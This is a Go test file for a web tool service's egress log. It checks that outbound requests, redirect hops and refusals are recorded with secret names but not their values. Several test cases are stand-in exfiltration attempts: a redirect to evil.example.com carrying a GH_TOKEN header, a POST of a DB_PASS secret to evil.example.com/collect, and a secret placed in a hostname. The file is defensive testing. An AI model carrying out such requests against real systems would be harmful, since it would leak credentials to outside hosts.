package web_test

import (
	"context"
	"encoding/json"
	"net/http"
	"slices"
	"sync"
	"testing"

	"github.com/agentsfleet/agentsfleet/shared/mcp/mcptest"
	"github.com/agentsfleet/agentsfleet/shared/run"
	"github.com/agentsfleet/agentsfleet/shared/web"
	"github.com/agentsfleet/agentsfleet/shared/web/wire"
)

// memLog is an in-memory EgressLog.
type memLog struct {
	mu   sync.Mutex
	runs map[string][]run.Egress
}

func (m *memLog) RecordEgress(_ context.Context, runID string, entries []run.Egress) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.runs == nil {
		m.runs = map[string][]run.Egress{}
	}
	m.runs[runID] = append(m.runs[runID], entries...)
	return nil
}

func (m *memLog) take(runID string) []run.Egress {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := m.runs[runID]
	delete(m.runs, runID)
	return out
}

// brief is what a test compares of an entry.
type brief struct {
	Tool, Method, Host string
	Status             int
	Refused            bool
	Rule               string
	Secrets            string
}

func briefs(es []run.Egress) []brief {
	out := make([]brief, len(es))
	for i, e := range es {
		b, _ := json.Marshal(e.Secrets)
		out[i] = brief{e.Tool, e.Method, e.Host, e.Status, e.Refused, e.Rule, string(b)}
	}
	return out
}

// TestEgressLogRecordsEveryHopAndRefusal: each request a call sends (each
// redirect hop) and each it refuses is an entry, with the rule that
// refused it and the names of the secrets filled — never their values.
func TestEgressLogRecordsEveryHopAndRefusal(t *testing.T) {
	t.Parallel()
	ids, src := storeSecrets(t)
	th := &thief{got: map[string][]string{}}
	srv := startServer(t, true, th)
	th.srvPort = srv.port()
	log := &memLog{}
	svc := newService(t, srv, func(c *web.Config) { c.Secrets = src; c.Egress = log })
	f := fleet{hosts: []string{"api.example.com"}, secrets: ids}
	auth := map[string]string{"Authorization": "Bearer «secret:GH_TOKEN»"}
	tests := []struct {
		name string
		tool string
		args map[string]any
		want []brief
	}{
		{"same-host redirect with a secret", wire.ToolHTTPRequest, map[string]any{"url": srv.url("api.example.com", "/same"), "headers": auth}, []brief{
			{"http_request", "GET", "api.example.com", 307, false, "", `["GH_TOKEN"]`},
			{"http_request", "GET", "api.example.com", 200, false, "", `["GH_TOKEN"]`},
		}},
		{"redirect to an unlisted host", wire.ToolHTTPRequest, map[string]any{"url": srv.url("api.example.com", "/steal"), "headers": auth}, []brief{
			{"http_request", "GET", "api.example.com", 302, false, "", `["GH_TOKEN"]`},
			{"http_request", "GET", "evil.example.com", 0, true, run.RuleHostList, `["GH_TOKEN"]`},
		}},
		{"unlisted host", wire.ToolHTTPRequest, map[string]any{"method": "POST", "url": srv.url("evil.example.com", "/collect"), "body": "«secret:DB_PASS»"}, []brief{
			{"http_request", "POST", "evil.example.com", 0, true, run.RuleHostList, `[]`},
		}},
		{"private address", wire.ToolWebFetch, map[string]any{"url": "https://internal.example.com/"}, []brief{
			{"webfetch", "GET", "internal.example.com", 0, true, run.RuleAddress, `[]`},
		}},
		{"port webfetch does not reach", wire.ToolWebFetch, map[string]any{"url": srv.url("public.example.com", "/")}, []brief{
			{"webfetch", "GET", "public.example.com", 0, true, run.RulePort, `[]`},
		}},
		{"secret in the host", wire.ToolHTTPRequest, map[string]any{"url": "https://«secret:GH_TOKEN».example.com/"}, []brief{
			{"http_request", "GET", "«secret:GH_TOKEN».example.com", 0, true, run.RuleSecretInHost, `[]`},
		}},
	}
	for _, tt := range tests {
		call(t, svc, tt.tool, tt.args, f)
		got := log.take("run_test")
		if !slices.Equal(briefs(got), tt.want) {
			t.Errorf("%s: entries\n%+v\nwant\n%+v", tt.name, briefs(got), tt.want)
		}
		b, _ := json.Marshal(got)
		noValues(t, tt.name+": the egress log", string(b))
		for _, e := range got {
			if e.Time.IsZero() || e.Port == 0 || e.Refused == (e.Rule == "") {
				t.Errorf("%s: entry %+v lacks a time or a port, or has a refusal without a rule", tt.name, e)
			}
			if e.Status == 200 && e.BytesIn == 0 {
				t.Errorf("%s: entry %+v read a body and counts no bytes in", tt.name, e)
			}
		}
	}
}

// TestEgressLogNeedsARun: a call naming no run records nothing (there is
// no log to write to), and a Service without an EgressLog works as before.
func TestEgressLogNeedsARun(t *testing.T) {
	t.Parallel()
	srv := startServer(t, true, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte("hello")) }))
	log := &memLog{}
	svc := newService(t, srv, func(c *web.Config) { c.Egress = log })
	raw, _ := json.Marshal(map[string]any{"url": srv.url("api.example.com", "/")})
	if _, err := svc.Call(context.Background(), wire.Request{Tool: wire.ToolWebFetchTLS, Arguments: raw, Hosts: []string{"api.example.com"}}); err != nil {
		t.Fatal(err)
	}
	if len(log.runs) != 0 {
		t.Errorf("a call of no run recorded %v", log.runs)
	}
}

// TestEgressLogRecordsMCPRequests: the requests of an MCP call, which the
// SDK sends under contexts of its own, are recorded under the server's
// tool with the name of the secret its headers carry, never the value.
func TestEgressLogRecordsMCPRequests(t *testing.T) {
	t.Parallel()
	mt := mcptest.New()
	ids, src := storeSecrets(t)
	srv := startServer(t, true, mt.Handler())
	log := &memLog{}
	svc := newService(t, srv, func(c *web.Config) { c.Secrets = src; c.Egress = log })
	f := fleet{hosts: []string{"api.example.com"}, secrets: ids}
	url := srv.url("api.example.com", "/mcp")
	wantOK(t, mcpCall(t, svc, mcpRequest(t, wire.ToolMCPCall, url, wire.MCPCallArgs{Server: "srv", Tool: "echo", Arguments: json.RawMessage(`{"text":"hi"}`)}, f)))
	got := log.take("run_test")
	if len(got) == 0 {
		t.Fatal("an MCP call recorded no request")
	}
	for _, e := range got {
		if e.Tool != "mcp__srv__echo" || e.Host != "api.example.com" || !slices.Equal(e.Secrets, []string{"GH_TOKEN"}) || e.Refused {
			t.Errorf("entry %+v, want the server's tool, its host and the secret's name", e)
		}
	}
	b, _ := json.Marshal(got)
	noValues(t, "the egress log", string(b))

	wantError(t, mcpCall(t, svc, mcpRequest(t, wire.ToolMCPCall, srv.url("evil.example.com", "/mcp"), wire.MCPCallArgs{Server: "srv", Tool: "echo"}, f)))
	if got := briefs(log.take("run_test")); len(got) != 1 || got[0].Rule != run.RuleHostList || got[0].Host != "evil.example.com" {
		t.Errorf("an MCP server off the host list: entries %+v, want one refusal by %s", got, run.RuleHostList)
	}
}
